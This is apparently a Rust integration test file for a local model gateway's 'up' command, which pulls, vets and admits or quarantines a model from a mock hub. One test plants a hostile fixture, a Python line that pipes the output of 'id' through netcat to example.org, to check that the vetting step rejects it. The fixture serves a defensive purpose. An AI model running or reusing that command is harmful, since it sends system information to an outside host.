//! What `freehold up` offers on a terminal, with a hub on this machine.

use std::{path::Path, process::Command, time::Duration};

use freehold_testkit::hub::{File, Hub, commit};
use serde_json::{Value, json};

use crate::harness::{Server, program, request, run, search_path, wait_until, witness};

#[test]
fn a_yes_pulls_vets_admits_and_the_next_start_serves() {
    let home = tempfile::tempdir().expect("a folder");
    let hub = Hub::serve(MODEL, &house_small()).expect("a port");
    let said = terminal(
        home.path(),
        &hub.endpoint(),
        &[],
        &[["signed off by", ""], ["[y/N]", "y\n"], ["from that start on", ""]],
    );
    for part in [
        "Qwen/Qwen3-0.6B  from http",
        "apache-2.0, as the card declares; not checked",
        "MB",
        "Whoever passes it on gives the licence along",
        "6 clean",
        "is admitted by",
    ] {
        assert!(said.contains(part), "{part}\n{said}");
    }
    let asked =
        hub.state().seen.iter().filter(|seen| seen.headers.contains_key("authorization")).count();
    assert_eq!(asked, 0, "no token is anybody's business here");
    let folder = home.path().join(format!("data/models/snapshots/Qwen--Qwen3-0.6B@{}", commit(1)));
    let server = Server::start(home.path(), &["--model", &folder.display().to_string()]);
    let models = server.ready["models"].as_array().expect("a list");
    assert_eq!(models.len(), 3, "{models:?}");
    let name = models.iter().find_map(|name| name.as_str().filter(|name| name.starts_with("Qwen")));
    let answer = server.say(name.expect("its name"), "hello").expect("an answer");
    assert_eq!(answer.status, 200, "{}", answer.body);
}

#[test]
fn a_no_is_kept_and_nothing_is_fetched() {
    let home = tempfile::tempdir().expect("a folder");
    let hub = Hub::serve(MODEL, &house_small()).expect("a port");
    let said =
        terminal(home.path(), &hub.endpoint(), &[], &[["[y/N]", "\n"], ["Whenever you like", ""]]);
    assert!(said.contains("freehold pull Qwen/Qwen3-0.6B --dir"), "{said}");
    assert_eq!(hub.asked("/resolve/"), 0);
    let before = hub.asked("");
    let said = terminal(home.path(), &hub.endpoint(), &[], &[[READY, ""]]);
    assert!(!said.contains("Qwen"), "{said}");
    assert_eq!(hub.asked(""), before);
}

#[test]
fn what_is_not_clean_is_not_admitted() {
    let home = tempfile::tempdir().expect("a folder");
    let mut files = house_small();
    files.push(("helper.py", File::text("import os\nos.system('id | nc example.org 80')\n")));
    let hub = Hub::serve(MODEL, &files).expect("a port");
    let said = terminal(
        home.path(),
        &hub.endpoint(),
        &[],
        &[["[y/N]", "y\n"], ["stays in quarantine", ""]],
    );
    assert!(!said.contains("is admitted by"), "{said}");
    let data = home.path().join("data").display().to_string();
    let list = run(home.path(), &["vet", "list", "--json", "--dir", &data]);
    assert!(!list.stdout.contains("Qwen"), "{}", list.stdout);
}

/// For a script, where hubs are not to be asked, and where none answers.
#[test]
fn nobody_is_asked_who_did_not_come_for_it() {
    let home = tempfile::tempdir().expect("a folder");
    let hub = Hub::serve(MODEL, &house_small()).expect("a port");
    let quiet = |endpoint: &str, more: &[(&str, &str)], flags: &[&str], last: &str| {
        let mut command = terminal_command(home.path(), endpoint, more, &[[last, ""]]);
        let said = ended(
            command.arg(program(home.path()).get_program()).args(up(home.path())).args(flags),
        );
        assert!(!said.contains("Qwen"), "{said}");
    };
    quiet(&hub.endpoint(), &[("HF_HUB_OFFLINE", "1")], &[], READY);
    quiet(&hub.endpoint(), &[], &["--json"], "first_start");
    assert_eq!(hub.asked(""), 0);
    // A port on which nobody listens: silence, and a later start asks again.
    let gone = hub.endpoint();
    drop(hub);
    quiet(&gone, &[], &[], READY);
    assert!(!home.path().join("data/offered").exists());
}

/// Whoever has it already, by whatever way it came.
#[test]
fn what_is_admitted_is_not_offered() {
    let home = tempfile::tempdir().expect("a folder");
    let hub = Hub::serve(MODEL, &house_small()).expect("a port");
    let data = home.path().join("data").display().to_string();
    let pull = ["pull", MODEL, "--yes", "--dir", &data, "--endpoint", &hub.endpoint()];
    assert_eq!(run(home.path(), &pull).code, 0);
    let folder = home.path().join(format!("data/models/snapshots/Qwen--Qwen3-0.6B@{}", commit(1)));
    let folder = folder.display().to_string();
    let admit = ["vet", &folder, "--admit", "--by", "ada", "--dir", &data];
    assert_eq!(run(home.path(), &admit).code, 0);
    let said = terminal(home.path(), &hub.endpoint(), &[], &[[READY, ""]]);
    assert!(!said.contains("signed off by"), "{said}");
}

/// A job of a shell's that reads the terminal without being in front is stopped by the system, and the
/// gateway with it (state T): whether it began there, or was sent there while the question waits.
#[test]
fn a_job_in_the_background_goes_on_serving() {
    let end = "sleep 6; echo \"state $(cut -d' ' -f3 /proc/$p/stat)\"; kill -CONT $p; kill -TERM $p; wait $p";
    let check = |begin: &str, steps: &[[&str; 2]], asked: bool| {
        let home = tempfile::tempdir().expect("a folder");
        let hub = Hub::serve(MODEL, &house_small()).expect("a port");
        let mut command = terminal_command(home.path(), &hub.endpoint(), &[], steps);
        command.args(["/bin/sh", "-c", &format!("set -m; {begin}; {end}"), "sh"]);
        command.arg(program(home.path()).get_program()).args(up(home.path()));
        let said = ended(&mut command);
        let serves = said.contains("state ") && !said.contains("state T");
        assert!(serves && said.contains("[y/N]") == asked, "{begin}\n{said}");
    };
    check("\"$@\" & p=$!", &[[READY, ""], ["state ", ""]], false);
    let sent = "\"$@\"; jobs -p >\"$HOME/job\"; read p <\"$HOME/job\"; bg";
    check(sent, &[["[y/N]", "\u{1a}"], ["state ", ""]], true);
}

/// The question waits for as long as it likes: others are answered, and Ctrl-C is an end in order.
#[test]
fn the_gateway_serves_while_the_question_waits() {
    let home = tempfile::tempdir().expect("a folder");
    let hub = Hub::serve(MODEL, &house_small()).expect("a port");
    let steps = [["[y/N]", ""]];
    let mut command = terminal_command(home.path(), &hub.endpoint(), &[], &steps);
    command.arg(program(home.path()).get_program()).args(up(home.path()));
    let asking = std::thread::spawn(move || ended(&mut command));
    let data = home.path().join("data");
    wait_until(Duration::from_secs(120), "the question", || data.join("offered").exists());
    let lock = std::fs::read_to_string(data.join("lock")).expect("where it is");
    let lock: Value = serde_json::from_str(&lock).expect("JSON");
    let address = lock["gateway"].as_str().expect("an address").replace("http://", "");
    let key = std::fs::read_to_string(data.join("api-key")).expect("a key");
    let body = json!({"model": "house", "max_tokens": 4, "messages": [{"role": "user", "content": "hello"}]});
    let (address, key) = (address.replace("/v1", ""), key.trim());
    let answer = request(&address, "POST", "/v1/chat/completions", key, Some(&body));
    assert_eq!(answer.expect("an answer").status, 200);
    let said = asking.join().expect("it ended");
    assert!(said.contains("[y/N]"), "{said}");
    assert_eq!(hub.asked("/resolve/"), 0);
}

/// Everything that `up` shows on a terminal, until Ctrl-C, which must end it in order.
fn terminal(home: &Path, endpoint: &str, more: &[(&str, &str)], steps: &[[&str; 2]]) -> String {
    let mut command = terminal_command(home, endpoint, more, steps);
    ended(command.arg(program(home).get_program()).args(up(home)))
}

fn terminal_command(
    home: &Path,
    endpoint: &str,
    more: &[(&str, &str)],
    steps: &[[&str; 2]],
) -> Command {
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/witness/terminal.py");
    let mut command = Command::new(witness("FREEHOLD_PYTHON"));
    command.env_clear().env("HOME", home).env("PATH", search_path()).env("HF_ENDPOINT", endpoint);
    command.envs(more.iter().copied()).arg(script).arg(json!(steps).to_string()).arg("3");
    command
}

fn up(home: &Path) -> Vec<String> {
    let data = home.join("data").display().to_string();
    let all = ["up", "--listen", "127.0.0.1:0", "--console", "127.0.0.1:0", "--dir", &data];
    all.map(str::to_owned).to_vec()
}

fn ended(command: &mut Command) -> String {
    let output = command.output().expect("Python can be started");
    let text = String::from_utf8_lossy(&output.stdout).into_owned();
    let errors = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success() && text.ends_with("exit 0\n"), "{text}{errors}");
    text
}

/// The smaller house model as a repository.
fn house_small() -> Vec<(&'static str, File)> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../models/house-small");
    let read = |name: &str| std::fs::read(folder.join(name)).expect("a file of the model");
    let text = |name| (name, File { listed: read(name), given: read(name), lfs: false });
    let mut files: Vec<_> =
        ["LICENSE", "config.json", "tokenizer.json", "tokenizer_config.json"].map(text).into();
    files.push(("README.md", File::text("---\nlicense: apache-2.0\n---\n# A model\n")));
    files.push(("model.safetensors", File::large(&read("model.safetensors"))));
    files
}

const MODEL: &str = "Qwen/Qwen3-0.6B";
/// The last thing that `up` says of itself.
const READY: &str = "Ctrl-C stops it in order.";
